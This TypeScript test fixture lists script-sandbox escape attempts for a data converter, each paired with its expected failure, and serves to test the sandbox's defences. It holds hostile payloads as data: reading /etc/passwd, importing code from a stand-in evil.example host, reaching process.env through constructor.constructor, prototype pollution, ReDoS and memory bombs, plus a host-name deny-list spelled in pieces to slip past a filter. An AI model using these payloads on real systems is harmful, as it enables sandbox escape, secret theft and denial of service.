import type { FailureReason } from '../../contract/converter/call.ts'

/**
 * What scripts try that should get data and nothing else. Each ends with one of these reasons, or with harmless rows. They run
 * on the server and in a page (`escapes.long.test.ts` here, `product/converters.long.test.ts`).
 */
interface Escape {
  source: string
  ends: FailureReason[] | { rows: unknown[] }
}

const fails = (source: string, ...ends: FailureReason[]): Escape => ({ source, ends })
const gives = (source: string, ...values: unknown[]): Escape => ({
  source,
  ends: { rows: values.map((value) => ({ value })) },
})

/** Looks at no limit while it searches, for minutes. */
export const STUCK = 'return [new Array(4294967295).indexOf(1)]'

const HOST_NAMES = [
  ...['window', 'self', 'top', 'parent', 'document', 'location', 'navigator', 'localStorage', 'indexedDB', 'caches'],
  ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'postMessage', 'Worker', 'WebAssembly'],
  ...['process', 'require', 'module', 'global', 'Buffer', 'Deno', 'console', 'setTimeout', 'queueMicrotask'],
  ...['std', 'os', 'print', 'scriptArgs', 'Proxy', 'performance', 'crypto', 'secretOfPage'],
]
/** Words of this list are built from pieces, because a save refuses them. */
const spelled = (name: string) => `"${name.slice(0, 2)}" + "${name.slice(2)}"`
const typesOf = (whole: string) => `return [${HOST_NAMES.map(spelled).join(', ')}].map((name) => typeof ${whole}[name])`
const unknown = HOST_NAMES.map(() => 'undefined')

/** Globals, the page, the network and the machine. */
const REACHING: Record<string, Escape> = {
  'names of the host': gives(typesOf('globalThis'), ...unknown),
  'names of the host through an indirect eval': gives(typesOf('(0, eval)("this")'), ...unknown),
  'names of the host through constructor.constructor': gives(
    typesOf('[].constructor.constructor("return globalThis")()'),
    ...unknown,
  ),
  'names of the host through a sloppy function': gives(typesOf('new Function("return this")()'), ...unknown),
  'names of the host through a generator’s constructor': gives(
    typesOf('(function* () {}).constructor("yield globalThis")().next().value'),
    ...unknown,
  ),
  'names of the host through the error of a failed call': gives(
    'try { null.x } catch (error) { return [typeof error.constructor.constructor("return pro" + "cess")] }',
    'function',
  ),
  'calling what constructor.constructor made of a name': fails(
    'return [(() => {}).constructor("return pro" + "cess")().env]',
    'thrown',
  ),
  'this in a strict function': gives('return [typeof this]', 'undefined'),
  'the caller': fails('return [arguments.callee.caller]', 'thrown'),
  'arguments beyond the given ones': gives('return [arguments.length]', 4),
  'import of a module of Node': fails('return import("node:fs")', 'promise'),
  'import of an address': fails('return import("https://evil.example/x.js")', 'promise'),
  'an import declaration': fails('import fs from "fs"', 'syntax'),
  'import.meta': fails('return [import.meta.url]', 'syntax'),
  'a file of QuickJS’ own library': fails('return [std.loadFile("/etc/passwd")]', 'thrown'),
  'a shared buffer for timing': fails(
    'return [Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)]',
    'thrown',
  ),
  'the stack of an error': gives('return [/(file:|node:|https?:)/.test(new Error("x").stack)]', false),
  'the frames of an error': fails('Error.prepareStackTrace = (_, frames) => frames; return [1]', 'thrown'),
  'leaving the function': fails('return 1 }); for (;;) {} (function () {', 'time', 'syntax'),
  'leaving the function and coming back': gives(
    'return [typeof load, typeof run, typeof given]',
    'undefined',
    'undefined',
    'undefined',
  ),
  'a comment at the end': gives('return [1] //', 1),
  'a marker of the end of HTML': fails('return [1] -->', 'syntax'),
}

/** What one call leaves behind for others. */
const KEEPING: Record<string, Escape> = {
  'a property of Object.prototype': fails('Object.prototype.polluted = 1; return [1]', 'thrown'),
  'a property of Array.prototype by its definition': fails(
    'Object.defineProperty(Array.prototype, "0", { set() {} }); return [1]',
    'thrown',
  ),
  'a changed toJSON of all objects': fails('Object.prototype.toJSON = () => "x"; return [1]', 'thrown'),
  'a changed stringify': fails('JSON.stringify = () => "[]"; return [1]', 'thrown'),
  'a changed map of all lists': fails('Array.prototype.map = () => [7]; return [1]', 'thrown'),
  'a global': fails('globalThis.kept = 1; return [1]', 'thrown'),
  'a global without a declaration': fails('kept = 1; return [1]', 'thrown'),
  'a changed iterator': fails('[][Symbol.iterator]().__proto__.next = () => ({ done: true }); return [1]', 'thrown'),
  'a changed prototype of generators': fails(
    'Object.getPrototypeOf(function* () {}).prototype.next = 1; return [1]',
    'thrown',
  ),
  'another prototype of Object.prototype': fails(
    'Object.setPrototypeOf(Object.prototype, { a: 1 }); return [1]',
    'thrown',
  ),
  'a __proto__ in a text': gives(
    'JSON.parse(\'{"__proto__": {"polluted": 1}}\'); return [typeof {}.polluted]',
    'undefined',
  ),
  'a __proto__ in the result': {
    source: 'return JSON.parse(\'[{"__proto__": 1}]\')',
    ends: { rows: [JSON.parse('{"__proto__": 1}')] },
  },
  'a symbol that all know': fails('Symbol.for("kept").kept = 1; return [1]', 'thrown'),
}

/** Time. */
const BUSY: Record<string, Escape> = {
  'a loop': fails('for (;;) {}', 'time'),
  'a loop in a finally': fails('try { for (;;) {} } finally { for (;;) {} }', 'time'),
  'a loop that catches': fails('for (;;) { try { for (;;) {} } catch {} }', 'time'),
  'a loop of callbacks': fails('const all = new Array(1000).fill(0); for (;;) all.forEach(() => {})', 'time'),
  'a RegExp that tracks back': fails('return [/^(a+)+$/.test("a".repeat(40) + "b")]', 'time'),
  'a getter in the result that loops': fails('return [{ get a() { for (;;) {} } }]', 'time'),
  'a getter in a thrown object that loops': fails('throw { get message() { for (;;) {} } }', 'thrown'),
  'a toString in a thrown error that loops': fails(
    'const error = new Error(); error.toString = () => { for (;;) {} }; throw error',
    'thrown',
  ),
  'a generator without an end': fails('for (const one of (function* () { for (;;) yield 1 })()) one', 'time'),
  'a search in a list without values': fails(STUCK, 'killed'),
  'large numbers': fails('let n = 3n; for (;;) n *= n', 'thrown', 'time', 'killed', 'memory'),
  'promises that follow each other': fails(
    'const again = () => Promise.resolve().then(again); return again()',
    'promise',
  ),
}

/** Memory and stack. */
const LARGE: Record<string, Escape> = {
  'lists without an end': fails(
    'const all = []; for (;;) all.push(new Array(1000).fill(1))',
    'memory',
    'time',
    'killed',
  ),
  'lists, and the error is caught': fails(
    'const all = []; for (;;) try { for (;;) all.push(new Array(1000).fill(1)) } catch {}',
    'memory',
    'time',
    'killed',
  ),
  'a buffer of 64 MB': fails('return [new ArrayBuffer(67108864).byteLength]', 'memory'),
  'a list of a thousand million': fails('return [new Array(1e9).fill(0).length]', 'memory', 'killed', 'time'),
  'a text that doubles': fails('let text = "x"; for (;;) text += text', 'thrown', 'memory', 'time', 'killed'),
  'a text of 1 GB': fails('return ["x".repeat(1073741823)]', 'thrown', 'memory', 'killed'),
  'a text of many parts': fails('return [new Array(1e8).join("xxxxxxxxxx")]', 'thrown', 'memory', 'killed', 'time'),
  'maps without an end': fails(
    'const all = new Map(); for (let i = 0; ; i++) all.set(i, {})',
    'memory',
    'time',
    'killed',
  ),
  'a recursion': fails('const deeper = () => deeper() + 1; return deeper()', 'stack'),
  'a recursion through native code': fails('const deeper = () => [2, 1].sort(deeper); return deeper()', 'stack'),
  'a recursion through toString': fails('const all = { toString: () => "" + all }; return "" + all', 'stack'),
  'a recursion through new code': fails(
    'const deeper = (f) => new Function("f", "return f(f)")(f); return deeper(deeper)',
    'stack',
    'thrown',
  ),
  'code that is nested too deeply': fails('return eval("[".repeat(100000))', 'thrown', 'killed'),
  'JSON that is nested too deeply': fails(
    'return JSON.parse("[".repeat(100000) + "]".repeat(100000))',
    'thrown',
    'stack',
  ),
  'a RegExp that is nested too deeply': fails(
    'return [new RegExp("(".repeat(100000) + ")".repeat(100000)).test("a")]',
    'thrown',
  ),
}

/** Results that are no data. */
const RESULTS: Record<string, Escape> = {
  'a promise': fails('return Promise.resolve([1])', 'promise'),
  'an async function': fails('return (async () => [1])()', 'promise'),
  'a proxy': fails('return new Proxy([], { get: () => 1 })', 'thrown'),
  'a function': fails('return [() => 1]', 'function'),
  'a function in a row': fails('return [{ a: { b() {} } }]', 'function'),
  'a toJSON of its own': fails('return [{ toJSON() { return [1] } }]', 'function'),
  'a date with a toJSON of its own': fails(
    'const at = new Date(0); at.toJSON = () => 1; return [at]',
    'object',
    'thrown',
  ),
  'a date that is none': fails('return [new Date("x")]', 'number'),
  'a symbol': fails('return [Symbol.iterator]', 'symbol'),
  'a BigInt': fails('return [1n]', 'bigint'),
  'no number': fails('return [{ a: 1 }, { a: 0 / 0 }]', 'number'),
  'an infinite number': fails('return [1 / 0]', 'number'),
  'a map': fails('return new Map([[1, 2]])', 'object'),
  'a typed list': fails('return new Float64Array(4)', 'object'),
  'a generator': fails('return (function* () { yield 1 })()', 'object'),
  'an object of a class': fails('return [new (class A { a = 1 })()]', 'object'),
  'an error': fails('return [new Error("x")]', 'object'),
  'a circle': fails('const a = {}; a.a = a; return a', 'deep'),
  'a text of 5 MB': fails('return ["x".repeat(5000000)]', 'size', 'memory'),
  'more rows than data may have': fails('return new Array(50001).fill(1)', 'size'),
  'a list with a length and nothing in it': fails('return new Array(4294967295)', 'size'),
  nothing: fails('data.length', 'nothing'),
  'one number': fails('return 5', 'shape'),
  'a getter': { source: 'return [{ get a() { return 1 } }]', ends: { rows: [{ a: 1 }] } },
  'a getter that counts': {
    source: 'let n = 0; return [{ get a() { return ++n === 1 ? 1 : () => {} } }]',
    ends: { rows: [{ a: 1 }] },
  },
  'an invalid code': fails('return (', 'syntax'),
  'a thrown text': fails('throw "x".repeat(1000000)', 'thrown'),
}

export const ESCAPES: Record<string, Escape> = { ...REACHING, ...KEEPING, ...BUSY, ...LARGE, ...RESULTS }
